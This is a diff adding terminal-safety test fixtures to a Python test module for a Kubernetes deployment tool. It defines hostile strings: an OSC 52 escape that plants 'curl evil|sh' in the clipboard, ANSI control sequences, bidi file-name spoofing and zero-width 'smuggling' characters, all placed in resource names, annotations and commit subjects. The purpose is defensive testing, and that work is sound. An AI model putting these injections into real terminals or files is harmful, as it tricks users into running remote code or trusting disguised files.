@@ -91,3 +91,79 @@ def project(name: str, **spec: Any) -> dict[str, Any]:
         "metadata": {"name": name, "namespace": "trueup"},
         "spec": spec,
     }
+
+
+# ---------------------------------------------------------------- hostile strings (terminal safety)
+
+OSC52 = "\x1b]52;c;Y3VybCBldmlsfHNo\x07"  # OSC 52: "curl evil|sh" into the clipboard, BEL-terminated
+CSI = "\x1b[2J\x1b[31m"  # clear the screen, red
+C1 = "\x9b31m\x85"  # 8-bit CSI, NEL
+BIDI = "\u202egpj.exe\u202c\u2066x\u2069"  # right-to-left override: shows as "exe.jpg"
+ZW = "\u200b\ufeff\U000e0041"  # zero-width space, BOM, a tag character ("ASCII smuggling")
+MARKUP = "[bold]x[/] weird[/x]name"  # Rich markup: must show literally, never style or crash
+ROLE_NAME = f"reader{OSC52}{CSI}{C1}{BIDI}"  # RBAC names are path segments: the API server accepts it
+NOTE = f"note {OSC52} {CSI}red\x1b[0m {C1} {BIDI} {ZW} {MARKUP} bell\x07 del\x7f cr\rlf"
+BAD_FILE = f"bad\x1b[31m{BIDI}\tname.yaml"
+SUBJECT = f"deploy {OSC52} {BIDI}"
+
+HOSTILE_LUA = """hs = {}
+hs.status = "Degraded"
+hs.message = obj.metadata.annotations["example.com/note"]
+return hs
+"""
+
+
+def yaml_dq(value: str) -> str:
+    """A YAML double-quoted scalar with every non-printable-ASCII character escaped."""
+    out = []
+    for ch in value:
+        code = ord(ch)
+        if ch in '"\\':
+            out.append("\\" + ch)
+        elif 0x20 <= code < 0x7F:
+            out.append(ch)
+        elif code < 0x100:
+            out.append(f"\\x{code:02x}")
+        elif code < 0x10000:
+            out.append(f"\\u{code:04x}")
+        else:
+            out.append(f"\\U{code:08x}")
+    return '"' + "".join(out) + '"'
+
+
+HOSTILE_FILES = {
+    "hostile/role.yaml": f"""apiVersion: rbac.authorization.k8s.io/v1
+kind: Role
+metadata:
+  name: {yaml_dq(ROLE_NAME)}
+rules:
+  - apiGroups: [""]
+    resources: [configmaps]
+    verbs: [get]
+""",
+    "hostile/cm.yaml": f"""apiVersion: v1
+kind: ConfigMap
+metadata:
+  name: banner
+  annotations:
+    example.com/note: {yaml_dq(NOTE)}
+data:
+  motd: {yaml_dq(NOTE)}
+""",
+    f"broken/{BAD_FILE}": "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: x\n  data: [\n",
+}
+
+
+def make_hostile_workspace(root: Path) -> Path:
+    """A workspace whose repository carries control characters in a resource name, annotations,
+    a Lua health message, a file name and a commit subject: apps `hostile` and `broken`."""
+    ws, repo, work = make_workspace(
+        root,
+        {"README.md": "fleet\n"},
+        settings={"resourceCustomizations": {"ConfigMap": {"health.lua": HOSTILE_LUA}}},
+    )
+    commit_files(work, root / "work", HOSTILE_FILES, SUBJECT)
+    control = ws.control()
+    control.create(application("hostile", repo, "hostile"), field_manager="test")
+    control.create(application("broken", repo, "broken"), field_manager="test")
+    return root
